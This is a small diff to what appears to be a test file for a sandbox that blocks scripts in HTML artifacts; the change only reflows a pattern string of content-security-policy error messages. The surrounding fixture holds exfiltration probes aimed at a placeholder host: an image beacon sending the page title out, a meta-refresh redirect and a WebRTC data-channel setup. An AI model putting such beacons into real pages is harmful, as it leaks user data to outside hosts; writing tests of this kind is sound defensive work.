@@ -19,7 +19,8 @@ SITE = f"""<!doctype html><title>x</title><h1>An artifact</h1><script src="own.j
 peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>
 <noscript><meta http-equiv="refresh" content="0; url={ELSEWHERE}/left"></noscript>
 <script>new Image().src = "{ELSEWHERE}/told?" + document.title</script>"""
-REFUSED = "Blocked script execution|Refused to execute the redirect|Content Security Policy|violates the following|breach of the page's policy"
+REFUSED = ("Blocked script execution|Refused to execute the redirect|Content Security Policy|"
+           "violates the following|breach of the page's policy")
 
 
 DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9z"/></svg>'
